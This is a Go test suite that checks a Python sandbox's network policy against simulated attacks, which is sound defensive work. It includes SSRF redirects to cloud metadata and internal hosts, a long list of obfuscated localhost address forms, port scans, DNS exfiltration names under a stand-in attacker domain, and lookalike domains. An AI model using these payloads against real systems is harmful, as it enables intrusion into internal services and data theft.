package eryx_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/eryx-build/eryx"
)

// internet stands for the public network: names resolve to what a test says,
// and every address leads to one server on loopback.
type internet struct {
	server string // host:port on loopback

	mu     sync.Mutex
	names  map[string][]string // each lookup takes the next answer; the last stays
	asked  []string
	dialed []string
	events []eryx.Egress
}

// network is a policy on this internet.
func (n *internet) network(hosts ...string) *eryx.Network {
	return &eryx.Network{
		Hosts: hosts,
		Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
			n.mu.Lock()
			defer n.mu.Unlock()
			n.asked = append(n.asked, name)
			answers := n.names[name]
			if len(answers) == 0 {
				return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
			}
			if len(answers) > 1 {
				n.names[name] = answers[1:]
			}
			var addrs []netip.Addr
			for _, text := range strings.Fields(answers[0]) {
				addrs = append(addrs, netip.MustParseAddr(text))
			}
			return addrs, nil
		},
		Dial: func(ctx context.Context, network, address string) (net.Conn, error) {
			n.mu.Lock()
			n.dialed = append(n.dialed, address)
			n.mu.Unlock()
			var d net.Dialer
			return d.DialContext(ctx, network, n.server)
		},
		OnEgress: func(e eryx.Egress) {
			n.mu.Lock()
			defer n.mu.Unlock()
			n.events = append(n.events, e)
		},
	}
}

// check compares what names were looked up and what addresses dialled.
func (n *internet) check(t *testing.T, asked, dialed []string) {
	t.Helper()
	n.mu.Lock()
	defer n.mu.Unlock()
	if !slices.Equal(n.asked, asked) {
		t.Errorf("the resolver was asked for %q, want %q", n.asked, asked)
	}
	if !slices.Equal(n.dialed, dialed) {
		t.Errorf("dialed %q, want %q", n.dialed, dialed)
	}
}

// pages is a web server, which answers with the path or what handle writes.
func pages(t *testing.T, handle func(w http.ResponseWriter, r *http.Request)) (address string) {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(handle))
	t.Cleanup(server.Close)
	return strings.TrimPrefix(server.URL, "http://")
}

// attempting is Python that tries things, and prints what came of each in a line.
const attempting = `
import socket, urllib.request
def attempt(what, do):
    try:
        print(what, "succeeded:", do())
    except Exception as e:
        e = getattr(e, "reason", e)
        print(what, type(e).__name__)
def get(url):
    return urllib.request.urlopen(url, timeout=10).read().decode()
def connect(host, port=80):
    with socket.create_connection((host, port), timeout=10) as s:
        return s.getpeername()
`

// wantLines fails the test where the script printed other lines.
func wantLines(t *testing.T, result *eryx.Result, want ...string) {
	t.Helper()
	if got := strings.Split(strings.TrimSuffix(string(result.Stdout), "\n"), "\n"); !slices.Equal(got, want) {
		t.Errorf("the script printed\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestNetworkAttackRebinding has a name change to loopback between two
// requests of a script, and behind its back between lookup and connection.
func TestNetworkAttackRebinding(t *testing.T) {
	n := &internet{
		server: pages(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.URL.Path) }),
		names:  map[string][]string{"rebind.example.com": {"93.184.216.34", "127.0.0.1"}},
	}
	result := mustExecute(t, attempting+`
info = socket.getaddrinfo("rebind.example.com", 80, type=socket.SOCK_STREAM)[0]
attempt("again", lambda: socket.getaddrinfo("rebind.example.com", 80))
s = socket.socket()
s.connect(info[4])
print("connected to", s.getpeername()[0])
attempt("get", lambda: get("http://rebind.example.com/"))
attempt("loopback", lambda: connect("127.0.0.1"))
`, &eryx.SandboxConfig{Network: n.network("rebind.example.com")})
	wantLines(t, result, "again PermissionError", "connected to 93.184.216.34", "get PermissionError", "loopback PermissionError")
	n.check(t, []string{"rebind.example.com", "rebind.example.com", "rebind.example.com"}, []string{"93.184.216.34:80"})
}

// TestNetworkAttackRedirect has an allowed server send a script elsewhere.
func TestNetworkAttackRedirect(t *testing.T) {
	n := &internet{names: map[string][]string{
		"api.example.com": {"93.184.216.34"}, "evil.example.net": {"93.184.216.35"}, "inside.example.com": {"10.0.0.1"},
	}}
	var served []string
	n.server = pages(t, func(w http.ResponseWriter, r *http.Request) {
		if served = append(served, r.Host+r.URL.Path); r.URL.Path == "/to" {
			http.Redirect(w, r, r.URL.Query().Get("url"), http.StatusFound)
			return
		}
		fmt.Fprint(w, "a page")
	})
	result := mustExecute(t, attempting+`
import urllib.parse
for url in ("http://api.example.com/page", "http://evil.example.net/", "http://127.0.0.1/", "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://0x7f.1/", "http://api.example.com:8080/", "http://localhost/",
            "http://93.184.216.35/", "http://inside.example.com/"):
    attempt(url, lambda: get("http://api.example.com/to?url=" + urllib.parse.quote(url)))
`, &eryx.SandboxConfig{Network: n.network("api.example.com", "inside.example.com")})
	wantLines(t, result, "http://api.example.com/page succeeded: a page", "http://evil.example.net/ PermissionError", "http://127.0.0.1/ PermissionError",
		"http://169.254.169.254/latest/meta-data/ PermissionError", "http://[::1]/ PermissionError", "http://[::ffff:127.0.0.1]/ PermissionError",
		"http://2130706433/ PermissionError", "http://0x7f.1/ PermissionError", "http://api.example.com:8080/ PermissionError", "http://localhost/ PermissionError",
		"http://93.184.216.35/ PermissionError", "http://inside.example.com/ PermissionError")
	if len(served) != 13 || slices.ContainsFunc(served, func(s string) bool { return !strings.HasPrefix(s, "api.example.com/") }) {
		t.Errorf("the server was asked for %q", served)
	}
	for _, address := range n.dialed {
		if address != "93.184.216.34:80" {
			t.Errorf("dialed %s", address)
		}
	}
	for _, name := range n.asked {
		if name != "api.example.com" && name != "inside.example.com" {
			t.Errorf("the resolver was asked for %s", name)
		}
	}
}

// TestNetworkAttackAddressForms tries every form of a local address that Python
// and its libc may know, with everything public allowed.
func TestNetworkAttackAddressForms(t *testing.T) {
	n := &internet{server: pages(t, func(w http.ResponseWriter, r *http.Request) { t.Errorf("the server was reached: %s", r.Host) })}
	result := mustExecute(t, attempting+`
hosts = ["127.0.0.1", "127.1", "127.0.1", "0177.0.0.1", "2130706433", "017700000001", "0x7f000001", "0x7f.1", "0X7F.0.0.1", "127.0.0.1.", "127.000.000.001",
         "127.0.0.01", "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021", "0", "0.0.0.0", "00", "::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1",
         "64:ff9b::127.0.0.1", "2002:7f00:1::", "0:0:0:0:0:0:0:1", "localhost", "LOCALHOST.", "169.254.169.254", "0xa9fea9fe", "2852039166", "::ffff:a9fe:a9fe",
         "fd00:ec2::254", "10.0.0.1", "fe80::1", "fe80::1%1", "255.255.255.255", "", "<broadcast>", "<any>"]
for host in hosts:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    def direct():
        with socket.socket(family) as s:
            s.settimeout(10)
            s.connect((host, 80))
    for what in (lambda: connect(host), direct, lambda: socket.getaddrinfo(host, 80)):
        try:
            got = what()
        except OSError as e:
            if not isinstance(e, (PermissionError, socket.gaierror)):
                print(repr(host), repr(e))
        except (UnicodeError, ValueError):
            pass # what Python itself refuses
        else:
            print(repr(host), "gave", got)
print("done")
`, &eryx.SandboxConfig{Network: n.network("*:*")})
	wantLines(t, result, "done")
	n.check(t, nil, nil)
}

// TestNetworkAttackPortScan goes through ports and addresses that are not
// allowed; no connection is begun and no name is looked up.
func TestNetworkAttackPortScan(t *testing.T) {
	n := &internet{names: map[string][]string{"api.example.com": {"93.184.216.34"}}}
	result := mustExecute(t, attempting+`
import asyncio
socket.getaddrinfo("api.example.com", 443)
few = asyncio.Semaphore(100)
async def probe(host, port):
    try:
        async with few:
            await asyncio.wait_for(asyncio.open_connection(host, port), 10)
    except PermissionError:
        return 1
    return 0
async def main():
    targets = [(f"10.0.0.{i}", 22) for i in range(1, 100)] + [("127.0.0.1", port) for port in range(1, 100)] + [("93.184.216.34", port) for port in range(1, 80)]
    targets += [(f"169.254.169.{i}", 80) for i in range(250, 255)] + [(f"93.184.216.{i}", 443) for i in range(35, 60)] + [(f"fd00::{i}", 80) for i in range(1, 20)]
    print(sum(await asyncio.gather(*(probe(*target) for target in targets))), len(targets))
asyncio.run(main())
`, &eryx.SandboxConfig{Network: n.network("api.example.com")})
	wantLines(t, result, "326 326")
	n.check(t, []string{"api.example.com"}, nil)
}

// TestNetworkAttackNamesThatCarryData looks up names below a domain of the
// attacker's, whose name server would see them.
func TestNetworkAttackNamesThatCarryData(t *testing.T) {
	n := &internet{names: map[string][]string{"api.example.com": {"93.184.216.34"}}}
	result := mustExecute(t, attempting+`
for name in ("c2VjcmV0.evil.example", "c2VjcmV0.api.example.com", "api.example.com.evil.example", "evilapi.example.com", "api.example.com@evil.example"):
    for do in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80), lambda name: connect(name), lambda name: get(f"http://{name}/")):
        try:
            print(name, do(name))
        except Exception:
            pass
print("done")
`, &eryx.SandboxConfig{Network: n.network("api.example.com")})
	wantLines(t, result, "done")
	n.check(t, nil, nil)
}

// TestNetworkAttackInternationalNames spells an allowed name in all its forms,
// and names that look like it.
func TestNetworkAttackInternationalNames(t *testing.T) {
	n := &internet{server: pages(t, func(http.ResponseWriter, *http.Request) {}), names: map[string][]string{"xn--bcher-kva.example": {"93.184.216.34"}}}
	result := mustExecute(t, attempting+`
for name in ("b\u00fccher.example", "B\u00dcCHER.example.", "bu\u0308cher.example", "xn--bcher-kva.example", "bucher.example", "b\u0252cher.example", "xn--bcher-kva.example.evil.example"):
    attempt(ascii(name), lambda: connect(name)[0])
`, &eryx.SandboxConfig{Network: n.network("Bücher.example")})
	wantLines(t, result, `'b\xfccher.example' succeeded: 93.184.216.34`, `'B\xdcCHER.example.' succeeded: 93.184.216.34`, `'bu\u0308cher.example' succeeded: 93.184.216.34`,
		`'xn--bcher-kva.example' succeeded: 93.184.216.34`, `'bucher.example' PermissionError`, `'b\u0252cher.example' PermissionError`, `'xn--bcher-kva.example.evil.example' PermissionError`)
	if slices.ContainsFunc(n.asked, func(name string) bool { return name != "xn--bcher-kva.example" }) {
		t.Errorf("the resolver was asked for %q", n.asked)
	}
}

// TestNetworkAttackExhaustingConnections opens connections and keeps them.
func TestNetworkAttackExhaustingConnections(t *testing.T) {
	var open, most int
	var mu sync.Mutex
	port := serve(t, func(conn *net.TCPConn) {
		mu.Lock()
		open++
		most = max(most, open)
		mu.Unlock()
		_, _ = io.Copy(io.Discard, conn)
		mu.Lock()
		open--
		mu.Unlock()
	})
	config := &eryx.SandboxConfig{Network: &eryx.Network{Hosts: []string{"127.0.0.1:*"}, ConnectionLimit: 5}, Env: map[string]string{"PORT": port}}
	s, err := openShared(t).NewSandbox(t.Context(), config)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for range 3 { // what one execution leaves open is not the next one's
		result, err := s.Execute(t.Context(), `
import os, socket
port = int(os.environ["PORT"])
kept = []
try:
    for _ in range(100):
        kept.append(socket.create_connection(("127.0.0.1", port), timeout=10))
except OSError as e:
    refused = e
    print(len(kept), type(e).__name__)
kept.pop().close()
for _ in range(100): # one place, used again and again
    socket.create_connection(("127.0.0.1", port), timeout=10).close()
raise refused
`)
		var raised *eryx.PythonError
		var limit *eryx.LimitError
		if !errors.As(err, &raised) || !errors.As(err, &limit) || limit.Kind != eryx.LimitConnections {
			t.Errorf("got %v, want an exception because of the limit of connections", explain(err))
		}
		wantLines(t, result, "5 OSError")
		if !slices.Contains(result.LimitsReached, eryx.LimitConnections) {
			t.Errorf("limits reached are %v", result.LimitsReached)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if most > 5+5 { // those of two executions may meet at the server
		t.Errorf("%d connections were open at once", most)
	}
}

// TestNetworkAttackBetweenUsers keeps a connection and an address in a pool,
// for the next user of the interpreter to find.
func TestNetworkAttackBetweenUsers(t *testing.T) {
	ended := make(chan struct{}, 1)
	n := &internet{server: "127.0.0.1:" + serve(t, func(conn *net.TCPConn) {
		_, _ = io.Copy(io.Discard, conn)
		ended <- struct{}{}
	}), names: map[string][]string{"api.example.com": {"93.184.216.34"}}}
	p, err := openShared(t).NewPool(t.Context(), &eryx.PoolConfig{MaxSize: 1, Sandbox: &eryx.SandboxConfig{Network: n.network("api.example.com")}})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	first, err := p.Acquire(t.Context(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, source := range []string{
		"import socket; s = socket.create_connection(('api.example.com', 80)); a = s.getpeername(); n = s.fileno()",
		"s.sendall(b'x'); print('open', a, n)", // it lives from one execution to the next
	} {
		if _, err := first.Execute(t.Context(), source); err != nil {
			t.Fatal(explain(err))
		}
	}
	if err := first.Close(); err != nil {
		t.Fatal(err)
	}
	<-ended // the server sees the end of the connection
	second, err := p.Acquire(t.Context(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer second.Close()
	result, err := second.Execute(t.Context(), attempting+`
attempt("variable", lambda: s)
for n in range(3, 64):
    try:
        other = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 0, fileno=n)
        other.sendall(b"x")
    except OSError:
        pass
    else:
        print("descriptor", n, "sends")
attempt("address", lambda: connect("93.184.216.34"))
attempt("name", lambda: connect("api.example.com"))
`)
	if err != nil {
		t.Fatal(explain(err))
	}
	wantLines(t, result, "variable NameError", "address PermissionError", "name succeeded: ('93.184.216.34', 80)")
}

// TestNetworkOfALease is that of its configuration, and of no other's.
func TestNetworkOfALease(t *testing.T) {
	n := &internet{
		server: "127.0.0.1:" + serve(t, echoing),
		names:  map[string][]string{"one.example.com": {"93.184.216.34"}, "two.example.com": {"93.184.216.34"}},
	}
	p, err := openShared(t).NewPool(t.Context(), &eryx.PoolConfig{MaxSize: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	for _, test := range []struct {
		config   *eryx.SandboxConfig
		one, two string
	}{
		{&eryx.SandboxConfig{Network: n.network("one.example.com")}, "succeeded: ('93.184.216.34', 80)", "PermissionError"},
		{nil, "PermissionError", "PermissionError"},
		{&eryx.SandboxConfig{Network: n.network("two.example.com")}, "PermissionError", "succeeded: ('93.184.216.34', 80)"},
		{&eryx.SandboxConfig{}, "PermissionError", "PermissionError"},
	} {
		lease, err := p.Acquire(t.Context(), test.config)
		if err != nil {
			t.Fatal(err)
		}
		result, err := lease.Execute(t.Context(), attempting+`
attempt("one", lambda: connect("one.example.com"))
attempt("two", lambda: connect("two.example.com"))
`)
		if err != nil {
			t.Fatal(explain(err))
		}
		wantLines(t, result, "one "+test.one, "two "+test.two)
		if err := lease.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

// TestNetworkOfASession lasts as long as its interpreter, and no longer.
func TestNetworkOfASession(t *testing.T) {
	n := &internet{server: "127.0.0.1:" + serve(t, echoing), names: map[string][]string{"api.example.com": {"93.184.216.34"}}}
	s, err := openShared(t).NewSession(t.Context(), &eryx.SandboxConfig{Network: n.network("api.example.com")})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	run := func(source string, want ...string) {
		t.Helper()
		result, err := s.Execute(t.Context(), source)
		if err != nil {
			t.Fatal(explain(err))
		}
		wantLines(t, result, want...)
	}
	run(attempting+"attempt('first', lambda: connect('api.example.com'))", "first succeeded: ('93.184.216.34', 80)")
	run("attempt('address', lambda: connect('93.184.216.34'))", "address succeeded: ('93.184.216.34', 80)")
	if err := s.Configure(&eryx.SandboxConfig{}); err != nil { // the network stays
		t.Fatal(err)
	}
	run("attempt('still', lambda: connect('api.example.com'))", "still succeeded: ('93.184.216.34', 80)")
	if err := s.Reset(t.Context()); err != nil {
		t.Fatal(err)
	}
	run(attempting+"attempt('address', lambda: connect('93.184.216.34'))", "address PermissionError")
}

// TestNetworkTrafficLimit is for one execution.
func TestNetworkTrafficLimit(t *testing.T) {
	config := &eryx.SandboxConfig{
		Network: &eryx.Network{Hosts: []string{"127.0.0.1:*"}, TrafficLimit: 100_000},
		Env:     map[string]string{"PORT": serve(t, echoing)},
	}
	s, err := openShared(t).NewSession(t.Context(), config)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for range 2 {
		result, err := s.Execute(t.Context(), `
import os, socket
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), timeout=10)
total = 0
while True:
    s.sendall(b"x" * 10_000)
    total += len(s.recv(10_000))
`)
		if err == nil || !slices.Contains(result.LimitsReached, eryx.LimitTraffic) {
			t.Errorf("%v, with the limits %v", explain(err), result.LimitsReached)
		}
	}
}
